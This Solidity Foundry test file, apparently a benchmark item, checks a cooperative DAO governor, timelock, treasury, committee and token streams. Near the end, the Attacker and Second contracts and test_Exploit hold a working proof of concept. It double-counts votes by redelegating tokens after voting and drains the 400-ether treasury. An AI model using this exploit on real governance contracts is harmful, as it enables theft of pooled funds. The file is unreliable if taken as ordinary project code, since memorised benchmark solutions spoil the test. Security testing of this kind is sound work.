// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./CooperativeGovernor.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {IERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/IERC20.sol";
import {CoopTreasury} from "./context/CoopTreasury.sol";
import {CoopStreams} from "./context/CoopStreams.sol";
import {CoopCommittee} from "./context/CoopCommittee.sol";

// assay-canary-f5fdf77d-3df4-4aea-a119-58f0fecd3e1f

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant DAN = address(0xDA9);
    uint256 private constant EVE_KEY = 0xE7E;
    uint256 private constant START = 1_700_000_000;

    CoopToken private coop;
    CoopTimelock private timelock;
    CooperativeGovernor private governor;
    CoopCommittee private committee;
    CoopTreasury private treasury;
    CoopStreams private streams;
    Attacker private mallory;
    address private eve;

    // ana delegates to ben, who has tokens as well; cat has not delegated; dan votes for himself
    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 400 ether);
        eve = vm.addr(EVE_KEY);
        coop = new CoopToken(address(this));
        timelock = new CoopTimelock(2 days);
        governor = new CooperativeGovernor(coop, timelock);
        timelock.setGovernor(address(governor));
        committee = new CoopCommittee(address(timelock));
        treasury = new CoopTreasury(committee, address(timelock));
        streams = new CoopStreams(coop, address(timelock));
        (bool paid, ) = address(treasury).call{value: 400 ether}("");
        require(paid, "treasury");
        mallory = new Attacker(coop, governor, address(treasury));
        vm.prank(ANA);
        coop.delegate(BEN);
        vm.prank(BEN);
        coop.delegate(BEN);
        vm.prank(DAN);
        coop.delegate(DAN);
        vm.prank(eve);
        coop.delegate(eve);
        mallory.gather();
        coop.mint(ANA, 80_000e18);
        coop.mint(BEN, 120_000e18);
        coop.mint(CAT, 500_000e18);
        coop.mint(DAN, 140_000e18);
        coop.mint(eve, 10_000e18);
        coop.mint(address(mallory), 150_000e18);
        coop.transferOwnership(address(timelock));
        vm.warp(START + 1 days);
        mallory.propose();
        vm.warp(START + 2 days + 1);
        vm.prank(BEN);
        governor.vote(0, 0);
    }

    function one(address to, bytes memory data) private pure returns (CoopTimelock.Batch memory batch) {
        batch.targets = new address[](1);
        batch.values = new uint256[](1);
        batch.datas = new bytes[](1);
        batch.targets[0] = to;
        batch.datas[0] = data;
    }

    function payment(address payable to, uint256 amount) private view returns (CoopTimelock.Batch memory) {
        return one(address(treasury), abi.encodeCall(CoopTreasury.pay, (to, amount)));
    }

    function proposed(address who, CoopTimelock.Batch memory batch) private returns (uint256) {
        vm.prank(who);
        return governor.propose(batch, "");
    }

    function tallies(uint256 id, uint256 against, uint256 for_, uint256 abstain) private view returns (bool) {
        (uint256 a, uint256 f, uint256 b) = governor.tallyOf(id);
        return a == against && f == for_ && b == abstain;
    }

    function test_Regular() public {
        speaks();
        settings();
        pays();
        cancels();
    }

    /// Ana disagrees with ben, once before and once after he has voted, and cat speaks for nobody's delegate.
    function speaks() private {
        vm.startPrank(ANA);
        (uint256 asDelegate, uint256 asHolder) = governor.weightOf(0, ANA);
        require(asDelegate == 0 && asHolder == 80_000e18, "ana can speak up");
        require(governor.speakUp(0, 1) == 80_000e18, "ana speaks up");
        vm.stopPrank();
        require(tallies(0, 120_000e18, 80_000e18, 0), "ben has less");
        uint256 id = proposed(DAN, payment(payable(DAN), 10 ether));
        vm.warp(block.timestamp + 1 days + 1);
        vm.prank(ANA);
        governor.speakUp(id, 1);
        vm.prank(CAT);
        require(governor.speakUp(id, 2) == 500_000e18, "cat speaks up");
        vm.prank(BEN);
        require(governor.vote(id, 0) == 120_000e18, "ben votes");
        uint256[] memory ids = new uint256[](2);
        ids[1] = id;
        uint8[] memory choices = new uint8[](2);
        choices[1] = 1;
        vm.prank(DAN);
        require(governor.voteMany(ids, choices)[1] == 140_000e18, "dan votes");
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(EVE_KEY, ballot(id, 2));
        require(governor.voteBySig(id, 2, eve, abi.encodePacked(r, s, v)) == 10_000e18, "eve signs");
        require(tallies(id, 120_000e18, 220_000e18, 510_000e18) && governor.quorumOf(id) == 200_000e18, "counted");
        vm.warp(block.timestamp + 5 days);
        require(governor.state(id) == CooperativeGovernor.State.Succeeded, "succeeded");
        uint256 eta = governor.queue(id);
        vm.warp(eta);
        governor.execute(id);
        require(DAN.balance == 10 ether && governor.state(0) == CooperativeGovernor.State.Defeated, "paid");
    }

    function ballot(uint256 id, uint8 support) private view returns (bytes32) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("CooperativeGovernor"),
                keccak256("1"),
                block.chainid,
                address(governor)
            )
        );
        bytes32 kind = governor.BALLOT();
        return keccak256(abi.encodePacked("\x19\x01", domain, keccak256(abi.encode(kind, id, support, eve))));
    }

    function settings() private {
        vm.startPrank(address(timelock));
        governor.setShares(50, 1_000);
        governor.setTimes(2 days, 6 days);
        governor.setShares(100, 2_000);
        governor.setTimes(1 days, 5 days);
        vm.stopPrank();
        require(governor.thresholdBps() == 100 && governor.votingPeriod() == 5 days, "settings");
    }

    /// A team, a stream, a freeze.
    function pays() private {
        vm.startPrank(address(timelock));
        committee.addMember(EVE(), 1);
        treasury.setTeam(ANA, 3 ether);
        coop.mint(address(timelock), 10_000e18);
        coop.approve(address(streams), 10_000e18);
        streams.open(eve, 10_000e18, uint64(block.timestamp), uint64(block.timestamp + 10 days), uint64(block.timestamp + 100 days));
        vm.stopPrank();
        vm.prank(ANA);
        treasury.draw(payable(ANA), 2 ether);
        require(ANA.balance == 2 ether && treasury.leftOf(ANA) == 1 ether, "drawn");
        vm.warp(block.timestamp + 20 days);
        vm.prank(eve);
        require(streams.claim(0) == 2_000e18, "a fifth");
        vm.prank(eve);
        committee.askFreeze();
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoopTreasury.Frozen.selector));
        treasury.draw(payable(ANA), 1 ether);
    }

    function EVE() private view returns (address) {
        return eve;
    }

    function cancels() private {
        uint256 id = proposed(DAN, payment(payable(DAN), 1 ether));
        require(timelock.batchOf(governor.proposal(id).hash).targets[0] == address(treasury), "actions");
        vm.prank(DAN);
        governor.cancel(id);
        require(governor.proposal(id).cancelled && governor.count() == id + 1, "cancelled");
    }

    function short(uint256 votes, uint256 needed) private pure returns (bytes memory) {
        return abi.encodeWithSelector(CooperativeGovernor.FewVotes.selector, votes, needed);
    }

    function wrong(uint256 id, CooperativeGovernor.State state) private pure returns (bytes memory) {
        return abi.encodeWithSelector(CooperativeGovernor.WrongState.selector, id, state);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("missing");
        new CooperativeGovernor(CoopToken(address(0)), timelock);
        vm.expectRevert("missing");
        new CooperativeGovernor(coop, CoopTimelock(payable(address(0))));
        vm.expectRevert(abi.encodeWithSelector(CooperativeGovernor.NotTimelock.selector, address(this)));
        governor.setShares(100, 2_000);
        vm.expectRevert(abi.encodeWithSelector(CooperativeGovernor.NotTimelock.selector, address(this)));
        governor.setTimes(1 days, 5 days);
        vm.startPrank(address(timelock));
        vm.expectRevert("bad threshold");
        governor.setShares(501, 2_000);
        vm.expectRevert("bad quorum");
        governor.setShares(500, 499);
        vm.expectRevert("bad quorum");
        governor.setShares(500, 5_001);
        governor.setShares(500, 500);
        governor.setShares(500, 5_000);
        vm.expectRevert("bad delay");
        governor.setTimes(1 hours - 1, 1 days);
        vm.expectRevert("bad delay");
        governor.setTimes(14 days + 1, 1 days);
        vm.expectRevert("bad period");
        governor.setTimes(1 hours, 1 days - 1);
        vm.expectRevert("bad period");
        governor.setTimes(1 hours, 30 days + 1);
        governor.setTimes(1 hours, 1 days);
        governor.setTimes(14 days, 30 days);
        vm.stopPrank();
    }

    function test_RefusesProposals() public {
        vm.prank(ANA);
        vm.expectRevert(short(0, 10_000e18));
        governor.propose(payment(payable(ANA), 1), "");
        vm.startPrank(DAN);
        vm.expectRevert("bad count");
        governor.propose(CoopTimelock.Batch(new address[](0), new uint256[](0), new bytes[](0)), "");
        vm.expectRevert("bad count");
        governor.propose(CoopTimelock.Batch(new address[](11), new uint256[](11), new bytes[](11)), "");
        vm.expectRevert("bad lengths");
        governor.propose(CoopTimelock.Batch(new address[](2), new uint256[](1), new bytes[](2)), "");
        vm.expectRevert("bad lengths");
        governor.propose(CoopTimelock.Batch(new address[](2), new uint256[](2), new bytes[](1)), "");
        governor.propose(CoopTimelock.Batch(new address[](10), new uint256[](10), new bytes[](10)), "");
        vm.expectRevert("one at a time");
        governor.propose(payment(payable(ANA), 1), "");
        vm.warp(block.timestamp + 1 days + 1);
        vm.expectRevert("one at a time");
        governor.propose(payment(payable(ANA), 1), "");
        vm.warp(block.timestamp + 5 days);
        governor.propose(payment(payable(ANA), 1), "");
        vm.stopPrank();
    }

    function test_RefusesVotes() public {
        uint256 id = proposed(DAN, payment(payable(DAN), 1 ether));
        vm.startPrank(DAN);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Pending));
        governor.vote(id, 1);
        vm.warp(block.timestamp + 1 days);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Pending));
        governor.speakUp(id, 1);
        vm.warp(block.timestamp + 1);
        vm.expectRevert(abi.encodeWithSelector(CooperativeGovernor.BadSupport.selector, 3));
        governor.vote(id, 3);
        vm.expectRevert("just vote");
        governor.speakUp(id, 1);
        governor.vote(id, 1);
        vm.expectRevert(abi.encodeWithSelector(CooperativeGovernor.VotedBefore.selector, id, DAN));
        governor.vote(id, 1);
        vm.expectRevert("bad lengths");
        governor.voteMany(new uint256[](1), new uint8[](2));
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CooperativeGovernor.NoWeight.selector, id, ANA));
        governor.vote(id, 1);
        governor.speakUp(id, 1);
        vm.expectRevert(abi.encodeWithSelector(CooperativeGovernor.VotedBefore.selector, id, ANA));
        governor.speakUp(id, 1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(CooperativeGovernor.NoWeight.selector, id, address(this)));
        governor.speakUp(id, 1);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(EVE_KEY, ballot(id, 1));
        vm.expectRevert("bad signature");
        governor.voteBySig(id, 2, eve, abi.encodePacked(r, s, v));
        vm.expectRevert("bad signature");
        governor.voteBySig(id, 1, BEN, abi.encodePacked(r, s, v));
        vm.warp(block.timestamp + 5 days);
        vm.prank(eve);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Succeeded));
        governor.vote(id, 1);
    }

    /// Before the end, before the delay, after the grace, and twice.
    function test_RefusesExecutions() public {
        uint256 id = proposed(DAN, payment(payable(DAN), 1 ether));
        uint256 late = proposed(BEN, payment(payable(BEN), 1 ether));
        vm.warp(block.timestamp + 1 days + 1);
        vm.startPrank(CAT);
        governor.speakUp(id, 1);
        governor.speakUp(late, 1);
        vm.stopPrank();
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Active));
        governor.queue(id);
        vm.warp(block.timestamp + 5 days);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Succeeded));
        governor.execute(id);
        uint256 eta = governor.queue(id);
        governor.queue(late);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Queued));
        governor.queue(id);
        vm.warp(eta - 1);
        vm.expectRevert(abi.encodeWithSelector(CoopTimelock.NotReady.selector, eta));
        governor.execute(id);
        vm.warp(eta + 14 days);
        governor.execute(id);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Executed));
        governor.execute(id);
        vm.prank(DAN);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Executed));
        governor.cancel(id);
        vm.warp(eta + 14 days + 1);
        vm.expectRevert(wrong(late, CooperativeGovernor.State.Expired));
        governor.execute(late);
        vm.prank(BEN);
        vm.expectRevert(wrong(late, CooperativeGovernor.State.Expired));
        governor.cancel(late);
    }

    /// As many for as against, and more for than against below the quorum.
    function test_RefusesDefeats() public {
        uint256 id = proposed(DAN, payment(payable(DAN), 1 ether));
        uint256 other = proposed(BEN, payment(payable(BEN), 1 ether));
        vm.prank(ANA);
        coop.transfer(eve, 80_000e18);
        vm.prank(CAT);
        coop.delegate(BEN);
        vm.warp(block.timestamp + 1 days + 1);
        vm.prank(DAN);
        governor.vote(id, 1);
        vm.prank(BEN);
        governor.vote(id, 0);
        vm.prank(BEN);
        governor.vote(other, 1);
        vm.warp(block.timestamp + 5 days);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Defeated));
        governor.queue(id);
        governor.queue(other);
    }

    function test_RefusesCancellations() public {
        uint256 id = proposed(DAN, payment(payable(DAN), 1 ether));
        vm.expectRevert("not yours");
        governor.cancel(id);
        vm.prank(DAN);
        coop.transfer(CAT, 130_000e18 + 1);
        vm.warp(block.timestamp + 1);
        governor.cancel(id);
        vm.prank(DAN);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Cancelled));
        governor.cancel(id);
        id = proposed(BEN, payment(payable(DAN), 1 ether));
        vm.warp(block.timestamp + 1 days + 1);
        vm.prank(BEN);
        governor.vote(id, 1);
        vm.warp(block.timestamp + 5 days);
        uint256 eta = governor.queue(id);
        vm.prank(BEN);
        governor.cancel(id);
        vm.warp(eta);
        vm.expectRevert(wrong(id, CooperativeGovernor.State.Cancelled));
        governor.execute(id);
        bytes32 hash = timelock.hashOf(payment(payable(DAN), 1 ether), bytes32(id));
        require(timelock.readyAt(hash) == 0, "gone");
    }

    function unauthorized(address who) private pure returns (bytes memory) {
        return abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, who);
    }

    function test_RefusesCommittee() public {
        vm.startPrank(ANA);
        vm.expectRevert(unauthorized(ANA));
        committee.addMember(ANA, 1);
        vm.expectRevert(unauthorized(ANA));
        committee.lift();
        vm.expectRevert(abi.encodeWithSelector(CoopCommittee.NotMember.selector, ANA));
        committee.askFreeze();
        vm.stopPrank();
        vm.startPrank(address(timelock));
        vm.expectRevert("nobody");
        committee.addMember(address(0), 1);
        vm.expectRevert(abi.encodeWithSelector(CoopCommittee.BadNeeded.selector, 2, 1));
        committee.addMember(BEN, 2);
        committee.addMember(BEN, 1);
        vm.expectRevert("member");
        committee.addMember(BEN, 1);
        vm.expectRevert(abi.encodeWithSelector(CoopCommittee.BadNeeded.selector, 1, 2));
        committee.addMember(CAT, 1);
        committee.addMember(CAT, 2);
        vm.expectRevert(abi.encodeWithSelector(CoopCommittee.NotMember.selector, ANA));
        committee.removeMember(ANA, 2);
        vm.stopPrank();
        vm.startPrank(BEN);
        vm.expectRevert(unauthorized(BEN));
        committee.removeMember(CAT, 1);
        committee.askFreeze();
        vm.expectRevert(abi.encodeWithSelector(CoopCommittee.AskedBefore.selector, BEN));
        committee.askFreeze();
        vm.stopPrank();
        vm.startPrank(address(timelock));
        for (uint256 i = 3; i <= 9; i++) committee.addMember(address(uint160(0xC000 + i)), i);
        vm.expectRevert("full");
        committee.addMember(ANA, 9);
        vm.stopPrank();
    }

    function test_RefusesStreams() public {
        uint64 now_ = uint64(block.timestamp);
        vm.expectRevert(unauthorized(address(this)));
        streams.open(eve, 1e18, now_, now_ + 10 days, now_ + 100 days);
        vm.startPrank(address(timelock));
        coop.mint(address(timelock), 100e18);
        coop.approve(address(streams), 100e18);
        vm.expectRevert("empty");
        streams.open(address(0), 1e18, now_, now_ + 10 days, now_ + 100 days);
        vm.expectRevert("empty");
        streams.open(eve, 0, now_, now_ + 10 days, now_ + 100 days);
        bytes memory bad = abi.encodeWithSelector(CoopStreams.BadTimes.selector);
        vm.expectRevert(bad);
        streams.open(eve, 1e18, now_ - 1, now_ + 10 days, now_ + 100 days);
        vm.expectRevert(bad);
        streams.open(eve, 1e18, now_ + 10 days, now_ + 5 days, now_ + 100 days);
        vm.expectRevert(bad);
        streams.open(eve, 1e18, now_, now_ + 20 days, now_ + 10 days);
        vm.expectRevert(bad);
        streams.open(eve, 1e18, now_, now_, now_);
        vm.expectRevert(bad);
        streams.open(eve, 1e18, now_, now_ + 10 days, now_ + 5 * 365 days + 1);
        streams.open(eve, 1e18, now_, now_ + 10 days, now_ + 100 days);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(CoopStreams.NotYours.selector, address(this)));
        streams.passOn(0, BEN);
        vm.expectRevert(unauthorized(address(this)));
        streams.stop(0);
        vm.startPrank(eve);
        vm.expectRevert("empty");
        streams.passOn(0, address(0));
        vm.expectRevert("nothing yet");
        streams.claim(0);
        vm.stopPrank();
        vm.warp(now_ + 20 days);
        vm.expectRevert(abi.encodeWithSelector(CoopStreams.NotYours.selector, address(this)));
        streams.claim(0);
    }

    function test_RefusesTimelock() public {
        vm.expectRevert("not yours");
        timelock.setGovernor(BEN);
        vm.expectRevert("not yours");
        timelock.setDelay(2 days);
        CoopTimelock.Batch memory batch = payment(payable(ANA), 1);
        bytes32 hash = timelock.hashOf(batch, bytes32(uint256(7)));
        bytes memory stranger = abi.encodeWithSelector(CoopTimelock.NotGovernor.selector, address(this));
        vm.expectRevert(stranger);
        timelock.submit(batch, bytes32(uint256(7)));
        vm.startPrank(address(governor));
        timelock.submit(batch, bytes32(uint256(7)));
        vm.expectRevert("submitted");
        timelock.submit(batch, bytes32(uint256(7)));
        bytes memory missing = abi.encodeWithSelector(CoopTimelock.NotScheduled.selector, hash);
        vm.expectRevert(missing);
        timelock.cancel(hash);
        vm.expectRevert(missing);
        timelock.execute(hash);
        vm.stopPrank();
        vm.expectRevert(stranger);
        timelock.schedule(hash);
        vm.startPrank(address(governor));
        uint256 at = timelock.schedule(hash);
        vm.expectRevert("scheduled");
        timelock.schedule(hash);
        vm.stopPrank();
        vm.expectRevert(stranger);
        timelock.cancel(hash);
        vm.warp(at);
        vm.expectRevert(stranger);
        timelock.execute(hash);
        vm.warp(at + 14 days + 1);
        vm.prank(address(governor));
        vm.expectRevert(abi.encodeWithSelector(CoopTimelock.TooLate.selector, at + 14 days));
        timelock.execute(hash);
        vm.startPrank(address(timelock));
        vm.expectRevert("nobody");
        timelock.setGovernor(address(0));
        vm.expectRevert("bad delay");
        timelock.setDelay(1 days - 1);
        vm.expectRevert("bad delay");
        timelock.setDelay(30 days + 1);
        timelock.setGovernor(BEN);
        vm.stopPrank();
        require(timelock.governor() == BEN, "a new governor");
    }

    function test_RefusesTokens() public {
        vm.expectRevert(unauthorized(address(this)));
        coop.mint(ANA, 1);
        vm.prank(address(timelock));
        vm.expectRevert(abi.encodeWithSelector(CoopToken.OverCap.selector, 10_000_000e18 + 1));
        coop.mint(ANA, 9_000_000e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(CoopToken.NotPast.selector, block.timestamp));
        coop.votesAt(ANA, block.timestamp);
        uint256 expiry = block.timestamp;
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(EVE_KEY, delegation(BEN, 0, expiry));
        vm.warp(expiry + 1);
        vm.expectRevert(abi.encodeWithSelector(CoopToken.Expired.selector, expiry));
        coop.delegateBySig(BEN, 0, expiry, abi.encodePacked(r, s, v));
    }

    function delegation(address to, uint256 nonce, uint256 expiry) private view returns (bytes32) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Coop"),
                keccak256("1"),
                block.chainid,
                address(coop)
            )
        );
        bytes32 kind = coop.DELEGATION();
        return keccak256(abi.encodePacked("\x19\x01", domain, keccak256(abi.encode(kind, to, nonce, expiry))));
    }

    function test_RefusesPayments() public {
        address payable[] memory to = new address payable[](1);
        to[0] = payable(ANA);
        uint256[] memory amounts = new uint256[](1);
        vm.expectRevert(unauthorized(address(this)));
        treasury.pay(payable(ANA), 1);
        vm.expectRevert(unauthorized(address(this)));
        treasury.payMany(to, amounts);
        vm.expectRevert(unauthorized(address(this)));
        treasury.payToken(coop, ANA, 0);
        vm.expectRevert(unauthorized(address(this)));
        treasury.setTeam(ANA, 1 ether);
        bytes memory nowhere = abi.encodeWithSelector(CoopTreasury.NoReceiver.selector);
        vm.startPrank(address(timelock));
        vm.expectRevert(nowhere);
        treasury.pay(payable(address(0)), 1);
        vm.expectRevert("bad lengths");
        treasury.payMany(to, new uint256[](2));
        to[0] = payable(address(0));
        vm.expectRevert(nowhere);
        treasury.payMany(to, amounts);
        vm.expectRevert("no lead");
        treasury.setTeam(address(0), 1 ether);
        treasury.setTeam(ANA, 1 ether);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert(nowhere);
        treasury.draw(payable(address(0)), 1);
        vm.expectRevert(abi.encodeWithSelector(CoopTreasury.OverBudget.selector, 1 ether, 1 ether + 1));
        treasury.draw(payable(ANA), 1 ether + 1);
        vm.stopPrank();
    }

    /// A team that draws while it is paid gets nothing by it.
    function test_RefusesNesting() public {
        Lead lead = new Lead(treasury);
        address payable[] memory to = new address payable[](1);
        to[0] = payable(address(lead));
        vm.startPrank(address(timelock));
        treasury.setTeam(address(lead), 1 ether);
        treasury.pay(to[0], 1);
        require(!lead.drew(), "drew while paid");
        treasury.payMany(to, new uint256[](1));
        require(!lead.drew(), "drew while many are paid");
        treasury.payToken(IERC20(address(lead)), ANA, 1);
        require(!lead.drew(), "drew while a token is paid");
        vm.stopPrank();
    }

    function exploit() public {
        mallory.vote(BEN);
        vm.warp(START + 7 days + 1);
        mallory.queue();
        vm.warp(START + 9 days + 1);
        mallory.execute();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 400 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(governor);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Lead {
    CoopTreasury private treasury;
    bool public drew;

    constructor(CoopTreasury treasury_) {
        treasury = treasury_;
    }

    receive() external payable {
        again();
    }

    function transfer(address, uint256) external returns (bool) {
        again();
        return true;
    }

    function again() private {
        try treasury.draw(payable(address(0xD0)), 1) {
            drew = true;
        } catch {}
    }
}

contract Attacker {
    CoopToken private coop;
    CooperativeGovernor private governor;
    address private treasury;
    Second private second;

    constructor(CoopToken c, CooperativeGovernor g, address t) {
        coop = c;
        governor = g;
        treasury = t;
        second = new Second(g);
    }

    function gather() external {
        coop.delegate(address(second));
    }

    function propose() external {
        CoopTimelock.Batch memory batch;
        batch.targets = new address[](1);
        batch.values = new uint256[](1);
        batch.datas = new bytes[](1);
        batch.targets[0] = treasury;
        batch.datas[0] = abi.encodeCall(CoopTreasury.pay, (payable(address(this)), 400 ether));
        second.propose(batch);
    }

    function vote(address large) external {
        second.vote();
        coop.delegate(large);
        governor.speakUp(0, 1);
    }

    function queue() external {
        governor.queue(0);
    }

    function execute() external {
        governor.execute(0);
    }

    receive() external payable {}
}

contract Second {
    CooperativeGovernor private governor;

    constructor(CooperativeGovernor g) {
        governor = g;
    }

    function propose(CoopTimelock.Batch memory batch) external {
        governor.propose(batch, "");
    }

    function vote() external {
        governor.vote(0, 1);
    }
}
